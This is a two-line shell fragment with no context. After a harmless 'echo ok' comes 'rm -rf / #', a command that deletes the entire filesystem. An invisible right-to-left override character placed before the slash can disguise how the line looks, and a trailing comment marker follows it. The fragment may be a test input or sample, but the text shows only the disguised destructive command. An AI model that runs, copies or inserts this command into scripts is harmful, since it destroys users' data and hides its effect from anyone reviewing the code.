echo ok
rm -rf ‮/ # 
